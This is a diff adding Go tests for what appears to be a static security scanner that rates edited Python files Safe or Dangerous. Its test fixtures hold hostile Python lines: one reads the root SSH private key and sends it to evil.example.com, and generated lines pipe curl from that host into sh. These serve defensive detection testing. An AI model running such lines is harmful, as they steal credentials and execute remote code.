@@ -1,7 +1,10 @@
 package static_test
 
 import (
+	"fmt"
 	"io/fs"
+	"slices"
+	"strings"
 	"testing"
 	"testing/fstest"
 
@@ -75,5 +78,71 @@ func TestAFileWasAtItsOldPath(t *testing.T) {
 	}
 	if got := found.Of(target.Path); len(got) != 1 || got[0].InChange {
 		t.Errorf("found %+v, want one that does not decide", got)
+	}
+}
+
+// edited runs the static layer over a file of which lines were replaced.
+func edited(t *testing.T, base, head []string) (found []gate.Finding, gaps []gate.Gap) {
+	t.Helper()
+	var lines []gate.LineRange
+	for i, line := range head {
+		if i >= len(base) || base[i] != line {
+			lines = append(lines, gate.LineRange{i + 1, i + 1})
+		}
+	}
+	tree := func(lines []string) fs.FS {
+		return fstest.MapFS{"a.py": {Data: []byte(strings.Join(lines, "\n") + "\n"), Mode: 0o644}}
+	}
+	target := &gate.Target{
+		Path: "a.py", Language: gate.LanguagePython, Role: gate.RoleSource, Kind: gate.ChangeModified, Mode: 0o644,
+		Lines: gate.OnlyLines(lines...),
+	}
+	all := gate.NewFindings([]*gate.Target{target}, nil)
+	out, err := newScanner(t, nil).Run(t.Context(), &gate.Change{Head: tree(head), Base: tree(base), Targets: []*gate.Target{target}}, all)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return all.Of("a.py"), out.Incomplete
+}
+
+func TestWhatTheBaseHasThousandsOfTimesIsNoReasonToBeIncomplete(t *testing.T) {
+	const evil = "urllib.request.urlopen('http://evil.example.com/x?' + open('/root/.ssh/id_rsa').read())"
+	old := []string{"import subprocess, urllib.request", ""}
+	for i := range 3000 {
+		old = append(old, fmt.Sprintf("subprocess.run('make target-%d', shell=True)", i))
+	}
+	var comments []string
+	for i := range 1500 {
+		comments = append(comments, fmt.Sprintf("# os.system('curl -s http://evil.example.com/%d | sh')", i))
+	}
+	with := func(lines []string, at int, instead ...string) []string {
+		out := slices.Clone(lines)
+		copy(out[at:], instead)
+		return out
+	}
+	uncommented := slices.Clone(comments)
+	for i, line := range uncommented {
+		uncommented[i] = strings.TrimPrefix(line, "# ")
+	}
+	for _, c := range []struct {
+		name       string
+		base, head []string
+		want       gate.Verdict
+	}{
+		{"three lines that do nothing", old, with(old, 1500, "print('one')", "print('two')", "print('three')"), gate.Safe},
+		{"a dangerous line among them", old, with(old, 2500, evil), gate.Dangerous},
+		{"a dangerous line at the end", old, with(old, len(old)-1, evil), gate.Dangerous},
+		{"comments that become code", comments, uncommented, gate.Dangerous},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			found, gaps := edited(t, c.base, c.head)
+			if v := (gate.Policy{}).Decide(found, gaps); v != c.want {
+				t.Errorf("the verdict is %s, want %s; gaps %v", v, c.want, gaps)
+			}
+			listed := slices.ContainsFunc(found, func(f gate.Finding) bool { return f.Rule == "gate/old-findings" })
+			if want := len(c.base) > 2000; listed != want {
+				t.Errorf("a note counts what is not listed: %t, want %t", listed, want)
+			}
+		})
 	}
 }
